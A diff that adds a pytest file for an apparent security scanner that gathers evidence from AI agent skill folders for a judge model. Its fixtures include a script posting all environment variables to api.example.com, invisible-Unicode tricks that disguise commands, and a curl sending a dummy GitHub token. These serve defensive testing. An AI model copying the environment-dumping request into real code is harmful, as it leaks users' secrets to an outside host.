@@ -1,0 +1,117 @@
+"""What the judge is shown: facts with ids, texts with line numbers, nothing that hides."""
+
+import os
+from pathlib import Path
+
+import pytest
+
+from tests.casts import a_skill_folder
+from vskill_platform.scan.judge.evidence import Evidence, clean, gather_evidence
+from vskill_platform.scan.judge.prompt import build_prompt
+
+ALL = 120_000
+
+
+def paths(evidence: Evidence) -> list[str]:
+    return [file.path for file in evidence.files]
+
+
+def test_every_fact_has_an_id_and_the_place_where_it_stands(tmp_path: Path) -> None:
+    script = "import os, requests\nrequests.post('https://api.example.com', data=os.environ)\n"
+    folder = a_skill_folder(tmp_path, send_dot_py=script)
+
+    evidence = gather_evidence(folder, ALL)
+
+    assert [span.id for span in evidence.spans] == [
+        f"S{number + 1}" for number in range(len(evidence.spans))
+    ]
+    assert ("send.py", 2, "api.example.com") in {
+        (span.path, span.line, span.host) for span in evidence.spans
+    }
+    assert evidence.capabilities["hosts"] == ("api.example.com",)
+
+
+def test_what_is_obeyed_comes_first_and_nothing_is_unseen(tmp_path: Path) -> None:
+    folder = a_skill_folder(tmp_path, a_dot_md="Words.", z_dot_py="print(1)\n")
+
+    evidence = gather_evidence(folder, ALL)
+
+    assert paths(evidence) == ["SKILL.md", "z.py", "a.md"]
+    assert evidence.files[1].lines == ("print(1)", "")
+    assert (evidence.unseen, evidence.left_out) == ((), ())
+
+
+def test_instructions_without_room_are_said_to_be_unseen(tmp_path: Path) -> None:
+    folder = a_skill_folder(tmp_path, zz_dot_sh="echo padding\n" * 1000, b_dot_csv="1,2\n" * 1000)
+    (folder / "AGENTS.md").write_text("word " * 1000)
+
+    evidence = gather_evidence(folder, 2000)
+
+    assert evidence.unseen == ("AGENTS.md", "zz.sh")
+    assert {"zz.sh", "b.csv"} <= set(evidence.left_out)
+    assert sum(len(line) for file in evidence.files for line in file.lines) <= 2000
+    assert [file.is_cut for file in evidence.files] == [False, True]
+
+
+def test_data_and_unlinked_documents_may_stay_unseen(tmp_path: Path) -> None:
+    folder = a_skill_folder(tmp_path, b_dot_csv="1,2\n" * 1000, notes_dot_md="word " * 1000)
+
+    evidence = gather_evidence(folder, 1000)
+
+    assert evidence.unseen == ()
+
+
+def test_what_is_no_text_is_named_and_not_shown(tmp_path: Path) -> None:
+    folder = a_skill_folder(tmp_path)
+    (folder / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(64))
+
+    evidence = gather_evidence(folder, ALL)
+
+    assert evidence.left_out == ("logo.png",)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("plain\ttext", "plain\ttext"),
+        ("Grüße, 世界 🎉", "Grüße, 世界 🎉"),
+        ("cu\u200brl", "cu<U+200B>rl"),
+        ("\U000e0041\U000e0042", "<U+E0041><U+E0042>"),
+        ("a\u2028b\rc\x1b[8m", "a<U+2028>b<U+000D>c<U+001B>[8m"),
+        ("\u202eevil", "<U+202E>evil"),
+        ("x\U000e0101", "x<U+E0101>"),
+    ],
+)
+def test_what_nobody_sees_is_spelt_out(text: str, shown: str) -> None:
+    assert clean(text) == shown
+
+
+def test_a_flood_of_facts_leaves_room_for_the_texts(tmp_path: Path) -> None:
+    calls = "".join(f"requests.get('https://host{n}.example/{'x' * 200}')\n" for n in range(900))
+    folder = a_skill_folder(tmp_path, many_dot_py=f"import requests\n{calls}")
+
+    evidence = gather_evidence(folder, 8000)
+
+    assert sum(len(span.text) for span in evidence.spans) <= 2000
+    assert "SKILL.md" in paths(evidence)
+
+
+def test_however_a_skill_is_made_the_question_keeps_its_size(tmp_path: Path) -> None:
+    folder = a_skill_folder(tmp_path)
+    for number in range(300):
+        name = f"{number:03}{'n' * 180}.py"
+        (folder / name).write_text(f"import os\nos.system('run{number} {'x' * 150}')\n")
+
+    for max_chars in (4000, 20_000):
+        prompt = build_prompt(gather_evidence(folder, max_chars))
+        assert len(prompt.user) <= 1.1 * max_chars + 500
+
+
+def test_a_key_that_was_left_in_is_not_shown(tmp_path: Path) -> None:
+    key = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
+    folder = a_skill_folder(tmp_path, run_dot_sh=f"curl -H 'Authorization: {key}' https://x.dev\n")
+
+    evidence = gather_evidence(folder, ALL)
+
+    assert key not in "\n".join(evidence.texts())
+    assert "run.sh" in paths(evidence)
